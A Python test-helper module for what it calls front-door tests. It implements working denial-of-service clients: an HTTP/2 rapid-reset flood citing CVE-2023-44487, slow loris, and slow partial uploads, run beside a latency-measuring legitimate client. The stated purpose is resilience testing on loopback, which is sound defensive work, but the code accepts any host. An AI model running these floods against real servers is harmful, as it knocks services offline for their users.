"""Hostile clients for the front-door tests: HTTP/2 rapid reset, slow loris, slow uploads, and a measured
legitimate client to run beside them. Loopback only; every loop is bounded in count and time and stops by
itself.
"""
from __future__ import annotations

import json
import select
import socket
import statistics
import threading
import time
from dataclasses import dataclass, field
from typing import Callable, List

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def rapid_reset(host: str, port: int, connections: int, seconds: float, max_streams: int, path: str) -> int:
    """HTTP/2 connections that open a gRPC stream and reset it at once, in a loop (CVE-2023-44487), from
    this one thread, round robin.

    Returns how many streams were opened and reset before ``seconds`` passed, ``max_streams`` were
    reached, or the server closed every connection.
    """
    headers = [(":method", "POST"), (":scheme", "http"), (":authority", f"{host}:{port}"), (":path", path),
               ("content-type", "application/grpc"), ("te", "trailers")]
    peers = []
    for _ in range(connections):
        sock = socket.create_connection((host, port), timeout=5)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        sock.setblocking(False)
        peers.append((sock, conn))
    sent, stop_at = 0, time.monotonic() + seconds
    try:
        while peers and sent < max_streams and time.monotonic() < stop_at:
            for peer in list(peers):
                if not _reset_burst(*peer, headers):
                    peers.remove(peer)
                    peer[0].close()
                    continue
                sent += 50
    finally:
        for sock, _ in peers:
            sock.close()
    return sent


def _reset_burst(sock: socket.socket, conn: h2.connection.H2Connection, headers: list) -> bool:
    """50 streams opened and reset on one connection; False once the server has closed it."""
    try:
        for _ in range(50):
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, headers)
            conn.reset_stream(stream_id)
        try:
            sock.sendall(conn.data_to_send())
        except BlockingIOError:
            time.sleep(0.001)
        while True:
            try:
                data = sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                return True
            if not data:
                return False
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    return False
    except (OSError, h2.exceptions.ProtocolError):
        return False


def slow_loris(host: str, port: int, connections: int, seconds: float) -> int:
    """``connections`` sockets that each send an HTTP request head one byte every 0.5 s and never finish
    it. Returns how many were still open at the end (a server with a header deadline closes them)."""
    head = b"POST /rexnet/prediction HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\nX-Slow: " + b"a" * 4096
    socks = []
    for _ in range(connections):
        try:
            socks.append(socket.create_connection((host, port), timeout=5))
        except OSError:
            break
    stop_at, pos = time.monotonic() + seconds, 0
    alive = list(socks)
    while time.monotonic() < stop_at and alive and pos < len(head):
        still = []
        for s in alive:
            try:
                s.sendall(head[pos:pos + 1])
                still.append(s)
            except OSError:
                s.close()
        alive, pos = still, pos + 1
        time.sleep(0.5)
    for s in socks:
        s.close()
    return len(alive)


def slow_uploads(host: str, port: int, paths: List[str], connections: int, size: int, seconds: float) -> dict:
    """``connections`` POSTs (spread over ``paths``) declaring a ``size``-byte body, each sending all of it
    but the last byte and then holding it for ``seconds``. A server that admits bodies before reading
    them answers the ones past its budget at once, before any body byte is sent: they are counted by
    status and not sent. Returns {"held": n, "answered": {status line: n}}."""
    body = b"0" * (size - 1)
    socks = []
    for i in range(connections):
        sock = socket.create_connection((host, port), timeout=60)
        sock.sendall(f"POST {paths[i % len(paths)]} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                     f"Content-Length: {size}\r\n\r\n".encode())
        socks.append(sock)
    answered: dict = {}
    held = []
    waiting = list(socks)
    while waiting:  # answers before the body: collect them until none came for a second
        readable = select.select(waiting, [], [], 1.0)[0]
        if not readable:
            break
        for sock in readable:
            status = sock.recv(65536).split(b"\r\n", 1)[0].decode() or "closed"
            answered[status] = answered.get(status, 0) + 1
            waiting.remove(sock)
    for sock in waiting:
        try:
            sock.sendall(body)
            held.append(sock)
        except OSError:  # answered and closed meanwhile
            answered["closed before the body"] = answered.get("closed before the body", 0) + 1
    time.sleep(seconds)
    for sock in socks:
        sock.close()
    return {"held": len(held), "answered": answered}


@dataclass
class Legit:
    """A legitimate client sending one request after another in a thread; latencies in seconds."""

    send: Callable[[], object]
    latencies: List[float] = field(default_factory=list)
    errors: List[str] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread = None

    def start(self) -> "Legit":
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        return self

    def _run(self) -> None:
        while not self._stop.is_set() and len(self.latencies) + len(self.errors) < 10_000:
            start = time.perf_counter()
            try:
                self.send()
                self.latencies.append(time.perf_counter() - start)
            except Exception as exc:  # noqa: BLE001 (counted, and reported by the assertions)
                self.errors.append(f"{type(exc).__name__}: {exc}")

    def stop(self) -> "Legit":
        self._stop.set()
        self._thread.join(60)
        return self

    def p99(self) -> float:
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(0.99 * len(ordered)))]

    def p50(self) -> float:
        return statistics.median(self.latencies)


def rss_mb(pid: int) -> float:
    """Resident memory of a process and its children, in MB."""
    import psutil
    proc = psutil.Process(pid)
    total = proc.memory_info().rss
    for child in proc.children(recursive=True):
        try:
            total += child.memory_info().rss
        except psutil.NoSuchProcess:
            pass
    return total / 2**20


if __name__ == "__main__":  # a probe as its own process: python probes.py rapid-reset|slow-loris HOST PORT N SECONDS
    import sys                # or: python probes.py slow-uploads HOST PORT N SECONDS SIZE PATH [PATH ...]
    kind, host, port, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    if kind == "slow-uploads":
        print(json.dumps(slow_uploads(host, port, sys.argv[7:], count, int(sys.argv[6]), seconds)), flush=True)
    elif kind == "rapid-reset":
        print(rapid_reset(host, port, count, seconds, 2_000_000,
                          "/baidu.paddle_serving.pipeline_serving.PipelineService/inference"))
    else:
        print(slow_loris(host, port, count, seconds))
